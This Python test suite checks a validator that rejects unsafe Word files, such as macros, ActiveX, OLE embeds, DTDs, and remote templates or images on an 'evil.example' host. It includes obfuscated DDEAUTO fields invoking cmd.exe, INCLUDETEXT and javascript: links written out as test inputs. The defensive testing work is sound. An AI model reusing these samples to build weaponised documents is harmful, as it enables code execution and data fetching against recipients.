"""What a Word file from outside must not hold, each with the problem that names it."""

from __future__ import annotations

import pytest
from wordfile import NAMESPACES, TYPE, archive, field, p, r, relationship, rels_part, word_file, word_parts

from docgen import messages
from docgen.errors import Problem, ProblemsFound
from docgen.template.opc import Package
from docgen.template.tidy import tidy


def problems(blob: bytes) -> list[Problem]:
    try:
        Package.read(blob, name="калып.docx")
    except ProblemsFound as found:
        return found.problems
    return []


def ids(blob: bytes) -> list[str]:
    return [problem.id.removeprefix("package.") for problem in problems(blob)]


def test_an_ordinary_file_is_let_in() -> None:
    blob = word_file(p("Буйрук") + p(field(" PAGE ")) + p(field("TOC \\o \"1-3\" \\h")) + p(field("HYPERLINK \\l \"bm\"")),
                     header=p("{{ school.name }}"), core="<dc:title>{{ doc.title }}</dc:title>",
                     relationships=[relationship("rId9", "hyperlink", "https://example.kg/a?b=1", external=True),
                                    relationship("rId8", "hyperlink", "mailto:a@b.kg", external=True)])
    assert problems(blob) == []


@pytest.mark.parametrize(("missing"), ["[Content_Types].xml", "_rels/.rels"])
def test_an_archive_without_a_package_is_not_a_word_file(missing: str) -> None:
    parts = word_parts()
    del parts[missing]
    assert ids(archive(parts)) == ["not-word"]


@pytest.mark.parametrize(("type", "expected"), [
    ("application/vnd.ms-word.document.macroEnabled.main+xml", ["macros"]),
    ("application/vnd.ms-word.template.macroEnabledTemplate.main+xml", ["macros"]),
    (f"{TYPE}.template.main+xml", ["word-template"]),
    ("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", ["not-word"]),
    ("", ["not-word"]),
])
def test_the_main_part_must_be_a_word_document(type: str, expected: list[str]) -> None:
    assert ids(word_file(types={"word/document.xml": type})) == expected


def test_a_package_without_a_main_part_is_not_a_word_file() -> None:
    assert ids(word_file(parts={"_rels/.rels": rels_part([])})) == ["not-word"]


def test_strict_open_xml_is_refused_by_name() -> None:
    strict = ('<Relationship Id="rId1" Type="http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument" '
              'Target="word/document.xml"/>')
    assert ids(word_file(parts={"_rels/.rels": rels_part([strict])})) == ["strict"]


DTD = '<!DOCTYPE w:document [<!ENTITY a "b">]>'


@pytest.mark.parametrize("part", ["word/document.xml", "word/styles.xml", "_rels/.rels", "word/_rels/document.xml.rels",
                                  "[Content_Types].xml"])
def test_a_document_type_in_any_part_is_refused(part: str) -> None:
    parts = word_parts()
    parts[part] = parts[part].replace(b"?>\n", b"?>" + DTD.encode(), 1)
    assert "doctype" in ids(archive(parts))


def test_content_types_of_an_unknown_encoding_are_named() -> None:
    types = word_parts()["[Content_Types].xml"].replace(b"UTF-8", b"UTF-O")
    assert ids(word_file(parts={"[Content_Types].xml": types})) == ["xml"]


@pytest.mark.parametrize("codec", ["utf-16", "utf-16-le", "utf-16-be"])
def test_a_document_type_cannot_hide_in_another_encoding(codec: str) -> None:
    text = f'<?xml version="1.0" encoding="UTF-16"?>{DTD}<w:styles {NAMESPACES}/>'
    assert ids(word_file(parts={"word/styles.xml": text.encode(codec)})) == ["xml"]


@pytest.mark.parametrize("text", ["<a>", "<a></b>", "<a>&nbsp;</a>", "<x:a/>", "", "<a b=1/>", "\x00", "<a>\x0b</a>",
                                  '<?xml version="1.0" encoding="windows-1251"?><a/>', '<a xmlns="urn:{"/>',
                                  '<?xml version="1.0" encoding="UTF-O"?><a/>'])
def test_xml_that_is_not_well_formed_is_named_by_its_part(text: str) -> None:
    (problem,) = problems(word_file(parts={"word/comments.xml": text}))
    assert (problem.id, problem.facts["part"]) == ("package.xml", "word/comments.xml")


def test_xml_by_its_content_type_alone_is_read_too() -> None:
    assert ids(word_file(types={"word/header9.bin": f"{TYPE}.header+xml"}, parts={"word/header9.bin": "<a>"})) == ["xml"]


def test_endless_nesting_is_refused() -> None:
    assert ids(word_file("<w:sdt>" * 500 + "</w:sdt>" * 500)) == ["too-deep"]


@pytest.mark.parametrize(("part", "expected"), [
    ("word/vbaProject.bin", "macros"), ("word/VBAPROJECT.BIN", "macros"), ("word/vbaData.xml", "macros"),
    ("word/activeX/activeX1.bin", "activex"), ("word/embeddings/oleObject1.bin", "embedded"),
    ("word/embeddings/Microsoft_Excel_Sheet.xlsx", "embedded"), ("customUI/customUI14.xml", "custom-ui"),
    ("word/webextensions/taskpanes.xml", "custom-ui"),
])
def test_a_part_that_runs_is_refused_by_its_name(part: str, expected: str) -> None:
    assert ids(word_file(parts={part: "<a/>"})) == [expected]


@pytest.mark.parametrize(("type", "expected"), [
    ("application/vnd.ms-office.vbaProject", "macros"), ("application/vnd.ms-office.activeX+xml", "activex"),
    ("application/vnd.openxmlformats-officedocument.oleObject", "embedded"),
    ("application/vnd.ms-word.keyMapCustomizations+xml", "custom-ui"),
])
def test_a_part_that_runs_is_refused_by_its_content_type(type: str, expected: str) -> None:
    assert ids(word_file(parts={"word/plain.dat": "<a/>"}, types={"word/plain.dat": type})) == [expected]


@pytest.mark.parametrize(("type", "expected"), [
    ("vbaProject", "macros"), ("control", "activex"), ("oleObject", "embedded"), ("package", "embedded"),
    ("aFChunk", "alt-chunk"), ("ui/extensibility", "custom-ui"), ("mailMergeSource", "mail-merge"),
])
def test_a_part_that_runs_is_refused_by_its_relationship(type: str, expected: str) -> None:
    assert ids(word_file(relationships=[relationship("rId9", type, "x.dat")])) == [expected]


@pytest.mark.parametrize(("type", "target", "expected"), [
    ("attachedTemplate", "https://evil.example/x.dotm", "remote-template"),
    ("attachedTemplate", "file:///C:/x.dotm", "remote-template"),
    ("image", "http://evil.example/a.png", "external-image"), ("frame", "http://evil.example/", "external"),
    ("subDocument", "other.docx", "external"), ("transform", "a.xslt", "external"),
    ("hyperlink", "file://server/share", "link"), ("hyperlink", "javascript:alert(1)", "link"), ("hyperlink", "a.docx", "link"),
])
def test_what_lies_outside_is_refused(type: str, target: str, expected: str) -> None:
    (problem,) = problems(word_file(relationships=[relationship("rId9", type, target, external=True)]))
    assert (problem.id, problem.facts["found"]) == (f"package.{expected}", target)


@pytest.mark.parametrize("target", ["http://evil.example/a.png", "//evil.example/a.png", "\\\\server\\a.png", "C:/a.png"])
def test_an_address_is_outside_even_when_it_says_nothing_of_it(target: str) -> None:
    assert ids(word_file(relationships=[relationship("rId9", "image", target)])) == ["external-image"]


def test_relationships_of_every_part_are_read() -> None:
    rels = rels_part([relationship("rId1", "image", "http://evil.example/a.png", external=True)])
    assert ids(word_file(header=p("х"), parts={"word/_rels/header1.xml.rels": rels})) == ["external-image"]


def test_relationships_cannot_hide_behind_capitals_or_attributes_of_another_namespace() -> None:
    rels = rels_part([relationship("rId1", "image", "http://evil.example/a.png", external=True)])
    assert ids(word_file(header=p("х"), parts={"word/_rels/header1.xml.RELS": rels})) == ["external-image"]
    hidden = relationship("rId9", "subDocument", "a.docx", external=True)
    hidden = hidden.replace("/>", ' xmlns:x="urn:x" x:TargetMode="Internal"/>')
    assert ids(word_file(relationships=[hidden])) == ["external"]
    assert ids(word_file('<w:p><w:fldSimple w14:instr="PAGE" w:instr="DDE cmd"/></w:p>')) == ["field"]


@pytest.mark.parametrize(("xml", "expected"), [
    ('<w:altChunk r:id="rId9"/>', "alt-chunk"),
    ('<w:p><w:r><w:object><o:OLEObject Type="Embed" r:id="rId9"/></w:object></w:r></w:p>', "embedded"),
    ('<w:p><w:r><w:object><w:control r:id="rId9"/></w:object></w:r></w:p>', "activex"),
    ('<w:p><w:r><w:pict><v:shape><v:imagedata src="http://evil.example/a.png"/></v:shape></w:pict></w:r></w:p>',
     "external-image"),
    ('<w:p><w:r><w:pict><v:shape href="file://server/a"/></w:pict></w:r></w:p>', "link"),
])
def test_an_element_that_runs_or_fetches_is_refused(xml: str, expected: str) -> None:
    assert ids(word_file(xml)) == [expected]


def test_a_mail_merge_source_is_refused() -> None:
    assert ids(word_file(settings='<w:mailMerge><w:mainDocumentType w:val="formLetters"/></w:mailMerge>')) == ["mail-merge"]


@pytest.mark.parametrize("instruction", [
    ["DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"], ["D", "D", "EAU", "TO cmd"], [" dde cmd"], ['"DDE" cmd'],
    [" INCLUDETEXT \"\\\\\\\\server\\\\a.docx\""], ["INCLUDEPICTURE ", "http://evil.example/a.png"], ["LINK Excel.Sheet.12 a"],
    ["{{ command }}"], ["D{{ rest }} cmd"], ["MACROBUTTON run"], ["DATABASE \\d a"],
])
def test_a_field_that_fetches_or_runs_is_refused_however_it_is_spread(instruction: list[str]) -> None:
    assert ids(word_file(p(field(*instruction)))) == ["field"]


@pytest.mark.parametrize("instruction", ["PAGE", " NUMPAGES \\* MERGEFORMAT", "REF bm \\h", "SEQ Таблица",
                                         "DATE \\@ dd", "= 1 + 2"])
def test_a_field_of_the_page_is_let_in(instruction: str) -> None:
    assert ids(word_file(p(field(instruction)))) == []


def test_a_field_inside_the_instruction_of_another_is_read() -> None:
    assert ids(word_file(p(field("IF 1 = 1 ").replace("IF 1 = 1 </w:instrText></w:r>",
                                                      "IF 1 = 1 </w:instrText></w:r>" + field("DDE cmd"))))) == ["field"]


def test_a_field_whose_name_is_computed_is_refused() -> None:
    inner = field('QUOTE 68 68 69')
    blob = word_file(p(field(" ").replace("</w:instrText></w:r>", "</w:instrText></w:r>" + inner, 1)))
    assert ids(blob) == ["field"]


def test_instruction_text_may_stand_in_ordinary_text_or_entities() -> None:
    opened = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    assert ids(word_file(p(opened, r("DDE cmd"), '<w:r><w:fldChar w:fldCharType="end"/></w:r>'))) == ["field"]
    assert ids(word_file(p(opened, "<w:r><w:instrText>&#68;&#68;E cmd</w:instrText></w:r>"))) == ["field"]
    assert ids(word_file(p("<w:r><w:instrText>DDE cmd</w:instrText></w:r>"))) == ["field"]
    assert ids(word_file('<w:p><w:fldSimple w:instr="DDEAUTO cmd"/></w:p>')) == ["field"]


def test_the_word_alone_in_a_text_is_no_field() -> None:
    assert ids(word_file(p("DDE cmd") + p(field("PAGE", result="DDE cmd")))) == []


@pytest.mark.parametrize(("instruction", "expected"), [
    ('HYPERLINK "https://example.kg"', []), ('HYPERLINK "mailto:a@b.kg" \\o "кат"', []), ('HYPERLINK \\l "bm"', []),
    ('HYPERLINK "file:///C:/a.exe"', ["link"]), ('HYPERLINK \\o "http://x" "\\\\\\\\server\\\\a"', ["link"]),
])
def test_a_hyperlink_field_leads_to_the_web_or_inside(instruction: str, expected: list[str]) -> None:
    assert ids(word_file(p(field(instruction)))) == expected


def test_all_problems_of_a_package_come_at_once() -> None:
    blob = word_file(p(field("DDE cmd")) + '<w:altChunk r:id="rId9"/>',
                     parts={"word/vbaProject.bin": b"x", "word/bad.xml": "<a>"},
                     relationships=[relationship("rId7", "image", "http://evil.example/a.png", external=True)])
    assert ids(blob) == ["alt-chunk", "external-image", "field", "macros", "xml"]


def test_the_file_is_named_and_every_problem_has_a_sentence_and_advice() -> None:
    for problem in problems(word_file(p(field("DDE cmd")), parts={"word/bad.xml": "<a>"})):
        assert problem.position.file == "калып.docx"
        for language in messages.LANGUAGES:
            wrong, advice = messages.sentence(problem, language)
            assert wrong not in ("", problem.id)
            assert advice


@pytest.mark.parametrize("namespace", ["53a22a84-c541-4de9-81c5-a6a65ef901ef", "http://a.kg:80/b%20c#d", "urn:a:b", "#a", ""])
def test_custom_xml_may_name_its_namespace_as_sharepoint_does(namespace: str) -> None:
    blob = word_file(parts={"customXml/item1.xml": f'<a xmlns="{namespace}"><b/></a>'})
    assert problems(blob) == []
    assert tidy(blob)


@pytest.mark.parametrize("namespace", ["a b", "{53a22a84}", "a%zz", "http://a:b", "C:\\a", "//a:b", "1:b", "a#b#c"])
def test_a_namespace_that_no_reader_takes_is_not_well_written(namespace: str) -> None:
    assert ids(word_file(parts={"customXml/item1.xml": f'<a xmlns="{namespace}"><b/></a>'})) == ["xml"]


@pytest.mark.parametrize(("type", "expected"), [
    ("application/vnd.openxmlformats-officedocument.obfuscatedFont", []),
    ("application/xml; charset=utf-8", ["xml"]),
    (f"{TYPE}.header+xml", ["xml"]),
])
def test_only_parts_of_xml_must_be_well_written(type: str, expected: list[str]) -> None:
    assert ids(word_file(parts={"word/thing.bin": b"\0\1"}, types={"word/thing.bin": type})) == expected
